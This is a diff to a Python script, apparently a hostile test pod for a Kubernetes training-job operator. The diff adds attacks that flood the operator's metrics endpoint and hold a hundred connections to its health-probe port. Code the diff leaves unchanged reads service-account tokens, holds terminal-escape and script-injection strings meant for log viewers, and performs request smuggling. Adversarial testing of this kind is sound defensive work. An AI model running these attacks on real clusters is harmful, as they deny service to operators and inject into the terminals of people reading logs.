@@ -1,7 +1,7 @@
 """A training pod that means harm: all that its network and its tokens allow, for some seconds.
 
-It knows more than it could: the uid of a pod of another job. In the end it prints what came
-back, and dies with words that are meant for the terminal of whoever looks.
+It knows more than it could: the uid of a pod of another job, and where the operator's pod is. In
+the end it prints what came back, and dies with words that are meant for somebody's terminal.
 """
 
 import base64
@@ -25,6 +25,7 @@ HOST, PORT = str(SERVICE.hostname), SERVICE.port or 80
 TOKEN = pathlib.Path("/run/trainingjob/token").read_text()
 ACCOUNT = pathlib.Path("/var/run/secrets/kubernetes.io/serviceaccount")
 VICTIM, OTHERS = os.environ["VICTIM"], os.environ["OTHERS"]
+OPERATOR = os.environ["OPERATOR"]
 UNTIL = time.monotonic() + float(os.environ["ATTACK_SECONDS"])
 ESCAPES = "\x1b[2J\x1b]0;owned\x07\x9b31m\u202e\u2066\u200b\r\n<script>alert(1)</script>"
 CAME: dict[str, collections.Counter[str]] = collections.defaultdict(collections.Counter)
@@ -125,6 +126,23 @@ def slow() -> int:
     return 0
 
 
+def metrics() -> int:
+    """What Prometheus asks for, as often as one can."""
+    there = http.client.HTTPConnection(OPERATOR, 8080, timeout=15)
+    try:
+        there.request("GET", "/metrics")
+        return there.getresponse().status
+    finally:
+        there.close()
+
+
+def probes() -> int:
+    """A hundred connections where the kubelet asks for the operator's health."""
+    held = [socket.create_connection((OPERATOR, 8080), timeout=15) for _ in range(100)]
+    time.sleep(5)
+    return len(held) and 0
+
+
 def smuggled() -> int:
     """Two requests, as one server counts and as another does."""
     with socket.create_connection((HOST, PORT), timeout=15) as there:
@@ -148,6 +166,8 @@ ATTACKS: list[tuple[Callable[[], int], int]] = [
     (huge, 2),
     (endless, 2),
     (slow, 2),
+    (metrics, 2),
+    (probes, 2),
     (smuggled, 1),
 ]
 
